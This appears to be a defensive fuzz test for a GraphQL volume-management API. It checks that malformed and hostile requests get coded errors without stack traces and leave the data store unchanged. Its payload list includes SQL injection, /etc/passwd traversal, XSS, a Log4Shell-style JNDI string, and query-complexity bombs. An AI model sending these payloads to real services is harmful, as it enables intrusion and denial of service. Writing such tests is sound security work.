/**
 * 1,000 malformed or hostile requests (deep nesting, huge lists and strings, wrong types,
 * injection strings in names, invalid JSON bodies, fragment bombs, alias floods): every one
 * gets coded errors without a stack trace, the server stays healthy, and the store is
 * unchanged. The mix is drawn from a seeded generator (HOSTILE_SEED, HOSTILE_COUNT).
 */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import WebSocket from 'ws';
import { ErrorCodes } from '../../../src/errors.ts';
import { KINDS } from '../../../src/resources/index.ts';
import { type Harness, startHarness } from './harness.ts';

const SEED = Number(process.env.HOSTILE_SEED ?? 20261126);
const COUNT = Number(process.env.HOSTILE_COUNT ?? 1000);
let harness: Harness;

/** mulberry32: a small seeded generator, so that a failure can be replayed. */
function generator(seed: number) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let value = state;
    value = Math.imul(value ^ (value >>> 15), value | 1);
    value ^= value + Math.imul(value ^ (value >>> 7), value | 61);
    return ((value ^ (value >>> 14)) >>> 0) / 4294967296;
  };
  return {
    next,
    integer: (maximum: number) => Math.floor(next() * maximum),
    pick: <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)] as T,
  };
}

const INJECTIONS = [
  "'; DROP TABLE volumes; --",
  '../../../../etc/passwd',
  'vol/../../x',
  '\u0000nul',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection string, on purpose
  '${jndi:ldap://example.invalid/a}',
  '{{7*7}}',
  '%00%2e%2e%2f',
  'Volume/hornbill-system/x',
  ' leading-space',
  'UPPER-case',
  '-starts-with-dash',
  'é-unicode-ü',
  '\ud800',
  'a'.repeat(64),
  'a'.repeat(254),
  '__proto__',
  'constructor',
  'null',
  '',
];

/** Names no kind accepts: a mutation with one of them must never write. */
const INVALID_NAMES = INJECTIONS.filter((name) => !/^[a-z0-9]([-a-z0-9]*[a-z0-9])?$/.test(name));

interface HostileRequest {
  kind: string;
  /** A JSON-encoded GraphQL request, or a raw body. */
  body: string;
  contentType?: string;
  token?: string;
}

function graphql(kind: string, query: string, variables?: unknown, token?: string): HostileRequest {
  return { kind, body: JSON.stringify({ query, variables }), token };
}

function hostileRequest(random: ReturnType<typeof generator>, tokens: Harness['tokens']): HostileRequest {
  const token = random.pick([undefined, tokens.read, tokens.write, tokens.admin, 'forged-token']);
  const injection = random.pick(INJECTIONS);
  const quoted = JSON.stringify(injection);
  switch (random.integer(18)) {
    case 0: {
      const depth = 50 + random.integer(5000);
      return graphql('deep unknown nesting', `${'{ a '.repeat(depth)}${'}'.repeat(depth)}`, undefined, token);
    }
    case 1: {
      const depth = 5 + random.integer(30);
      let selection = 'name';
      for (let level = 0; level < depth; level++) selection = `fields { type { ${selection} } }`;
      return graphql('deep introspection', `{ __type(name: "Volume") { ${selection} } }`, undefined, token);
    }
    case 2:
      return graphql(
        'huge first',
        `{ volumes(first: ${random.pick([501, 100000, 2147483647, -1])}) { totalCount } }`,
        undefined,
        token,
      );
    case 3: {
      const aliases = Array.from(
        { length: 200 + random.integer(3000) },
        (_, index) => `a${index}: volumes(first: 500) { nodes { name replicas { name mode } } }`,
      );
      return graphql('alias flood', `{ ${aliases.join(' ')} }`, undefined, token);
    }
    case 4: {
      // A "billion laughs" of fragments: each level spreads the previous one ten times.
      const levels = 6 + random.integer(6);
      const fragments = ['fragment F0 on Volume { name size }'];
      for (let level = 1; level <= levels; level++) {
        fragments.push(
          `fragment F${level} on Volume { ${Array.from({ length: 10 }, () => `...F${level - 1}`).join(' ')} }`,
        );
      }
      return graphql(
        'fragment bomb',
        `{ volumes(first: 500) { nodes { ...F${levels} } } } ${fragments.join(' ')}`,
        undefined,
        token,
      );
    }
    case 5:
      return graphql(
        'fragment cycle',
        '{ volumes { nodes { ...A } } } fragment A on Volume { ...B } fragment B on Volume { ...A }',
        undefined,
        token,
      );
    case 6:
      return graphql(
        'wrong types',
        random.pick([
          '{ volume(name: 123) { name } }',
          '{ volumes(first: "ten") { totalCount } }',
          '{ volumes(state: "attached") { totalCount } }',
          'mutation { createVolume(input: { name: 5, size: 5 }) { errors { code } } }',
          'mutation { updateReplicaCount(name: "x", replicaCount: 1.5) { errors { code } } }',
          'mutation { attachVolume(name: "x", node: "n", frontend: SCSI) { errors { code } } }',
          'query($n: Int!) { volumes(first: $n) { totalCount } }',
        ]),
        random.pick([undefined, { n: 'x' }, { n: 1e308 }, { n: [1, 2] }, 'not-an-object']),
        token,
      );
    case 7:
      return graphql(
        'injection in a query',
        `{ volume(name: ${quoted}) { name } node(name: ${quoted}) { name } snapshots(volume: ${quoted}) { name } }`,
        undefined,
        token,
      );
    case 8: {
      const quoted = JSON.stringify(random.pick(INVALID_NAMES));
      const mutation = random.pick([
        `createVolume(input: { name: ${quoted}, size: "1Gi" }) { errors { code field } }`,
        `deleteVolume(name: ${quoted}) { errors { code field } }`,
        `attachVolume(name: ${quoted}, node: ${quoted}) { errors { code field } }`,
        `expandVolume(name: ${quoted}, size: ${quoted}) { errors { code field } }`,
        `createSnapshot(volume: ${quoted}, name: ${quoted}) { errors { code field } }`,
        `deleteReplica(volume: ${quoted}, replica: ${quoted}) { errors { code field } }`,
        `updateSetting(name: ${quoted}, value: ${quoted}) { errors { code field } }`,
        `addDisk(node: ${quoted}, name: ${quoted}, path: ${quoted}) { errors { code field } }`,
        `updateNode(name: ${quoted}, tags: [${quoted}]) { errors { code field } }`,
      ]);
      return graphql('injection in a mutation', `mutation { ${mutation} }`, undefined, token);
    }
    case 9: {
      const huge = 'x'.repeat(10_000 + random.integer(900_000));
      return graphql(
        'huge string argument',
        'mutation($name: String!) { deleteVolume(name: $name) { errors { code } } }',
        { name: huge },
        token,
      );
    }
    case 10: {
      const tags = Array.from({ length: 1000 + random.integer(50_000) }, (_, index) => `t${index}`);
      return graphql(
        'huge list argument',
        'mutation($tags: [String!]) { updateNode(name: "no-such-node", tags: $tags) { errors { code } } }',
        { tags },
        token,
      );
    }
    case 11:
      return {
        kind: 'invalid JSON',
        body: random.pick([
          '{not json',
          '{"query": ',
          '[',
          'null',
          '"text"',
          '12',
          '{"query": 5}',
          '{"query": {}}',
          '{"query": "{ volumes { totalCount } }", "variables": "x"}',
          '{"query": "{ __typename }", "extensions": 7}',
          '\u0000\u0001\u0002',
        ]),
        token,
      };
    case 12:
      return { kind: 'deep JSON', body: `${'['.repeat(10_000 + random.integer(100_000))}`, token };
    case 13:
      return {
        kind: 'batched request',
        body: JSON.stringify([{ query: '{ __typename }' }, { query: '{ __typename }' }]),
        token,
      };
    case 14:
      return graphql(
        'unknown operation name',
        'query A { __typename } query B { __typename }',
        undefined,
        token,
      );
    case 15:
      return {
        kind: 'wrong content type',
        body: 'query { __typename }',
        contentType: random.pick(['text/plain', 'application/xml', 'multipart/form-data; boundary=x']),
        token,
      };
    case 16: {
      const directives = Array.from({ length: 100 + random.integer(4000) }, () => '@skip(if: false)').join(
        ' ',
      );
      return graphql('directive flood', `{ volumes ${directives} { totalCount } }`, undefined, token);
    }
    default:
      return graphql(
        'tokens beyond the limit',
        `{ ${Array.from({ length: 12_000 }, (_, index) => `a${index}: __typename`).join(' ')} }`,
        undefined,
        token,
      );
  }
}

async function storeSnapshot(): Promise<string> {
  const parts: unknown[] = [];
  for (const kind of KINDS) parts.push((await harness.store.list(kind)).items);
  parts.push(await harness.store.listEvents());
  return JSON.stringify(parts);
}

before(async () => {
  harness = await startHarness();
  await harness.store.create({
    kind: 'Volume',
    metadata: { name: 'victim', namespace: harness.namespace },
    spec: { size: '1Gi' },
  });
  await harness.store.create({
    kind: 'Node',
    metadata: { name: 'node-1', namespace: harness.namespace },
    spec: { disks: { 'disk-1': { path: '/srv/disk-1' } } },
  });
});
after(async () => {
  await harness.close();
});

async function healthy(): Promise<void> {
  const { status, body } = await harness.request('{ volumes { nodes { name } } }', {
    token: harness.tokens.read,
  });
  assert.equal(status, 200);
  assert.deepEqual(body.data?.volumes.nodes, [{ name: 'victim' }]);
}

test(`${COUNT} hostile requests get coded errors, no stack traces, and change nothing (seed ${SEED})`, async () => {
  const before = await storeSnapshot();
  const random = generator(SEED);
  const kinds = new Map<string, number>();
  let index = 0;
  const worker = async () => {
    while (index < COUNT) {
      const number = index++;
      const request = hostileRequest(random, harness.tokens);
      kinds.set(request.kind, (kinds.get(request.kind) ?? 0) + 1);
      const headers: Record<string, string> = { 'content-type': request.contentType ?? 'application/json' };
      if (request.token !== undefined) headers.authorization = `Bearer ${request.token}`;
      const response = await fetch(harness.url, { method: 'POST', headers, body: request.body });
      const text = await response.text();
      const context = `#${number} ${request.kind}: ${response.status} ${text.slice(0, 300)}`;
      assert.ok([200, 400, 401, 403, 405, 413, 415].includes(response.status), context);
      assert.doesNotMatch(text, /\n\s+at |node_modules|\.ts:\d+|\.js:\d+/, context);
      let parsed: unknown;
      try {
        parsed = JSON.parse(text);
      } catch {
        assert.fail(`${context}: the body is not JSON`);
      }
      const body = parsed as {
        errors?: { message: string; extensions?: { code?: string } }[];
        data?: Record<string, { errors?: { code: string }[] } | null> | null;
      };
      // Errors of the whole request, or (a mutation that ran) errors in its payload.
      const codes = [
        ...(body.errors ?? []).map((error) => error.extensions?.code),
        ...Object.values(body.data ?? {}).flatMap((payload) =>
          (payload?.errors ?? []).map((error) => error.code),
        ),
      ];
      if (codes.length === 0) {
        // Only a well-formed name that matches nothing ("null", "constructor") may pass: it finds nothing.
        const values = Object.values(body.data ?? {});
        assert.ok(
          values.length > 0 &&
            values.every((value) => value === null || (Array.isArray(value) && value.length === 0)),
          context,
        );
      }
      for (const code of codes) {
        assert.ok(typeof code === 'string' && Object.hasOwn(ErrorCodes, code), `${context} (code ${code})`);
      }
      if (number % 100 === 99) await healthy();
    }
  };
  await Promise.all([worker(), worker(), worker()]);
  await healthy();
  assert.equal(await storeSnapshot(), before);
  assert.ok(kinds.size >= 15, `only ${kinds.size} kinds of hostile request were drawn`);
  assert.equal(
    harness.logs.filter((record) => record.level === 'error').length,
    0,
    JSON.stringify(harness.logs.filter((record) => record.level === 'error').slice(0, 3)),
  );
});

test('a body over 1 MiB or without a Content-Length is refused before it is read', async () => {
  const big = await fetch(harness.url, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${harness.tokens.read}` },
    body: JSON.stringify({ query: `{ __typename } # ${'x'.repeat(2 * 1024 * 1024)}` }),
  });
  assert.equal(big.status, 413);
  assert.equal((await big.json()).errors[0].extensions.code, 'GRAPHQL_BAD_REQUEST');
  const chunked = await fetch(harness.url, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: new ReadableStream({
      start(controller) {
        controller.enqueue(new TextEncoder().encode('{"query":"{ __typename }"}'));
        controller.close();
      },
    }),
    duplex: 'half',
  } as RequestInit);
  assert.equal(chunked.status, 411);
  await healthy();
});

test('garbage on the WebSocket closes that socket only', async () => {
  for (const message of [
    'not json',
    '{"type":"subscribe"}',
    JSON.stringify({ type: 'connection_init', payload: 5 }),
    'x'.repeat(2 * 1024 * 1024),
  ]) {
    const socket = new WebSocket(`ws://127.0.0.1:${harness.port}/graphql`, 'graphql-transport-ws');
    const closed = new Promise<number>((resolve) => socket.on('close', (code) => resolve(code)));
    socket.on('error', () => {});
    await new Promise<void>((resolve, reject) => {
      socket.on('open', () => resolve());
      socket.on('error', reject);
    });
    socket.send(message);
    const code = await closed;
    assert.ok(code >= 1000, `close code ${code}`);
  }
  await healthy();
});
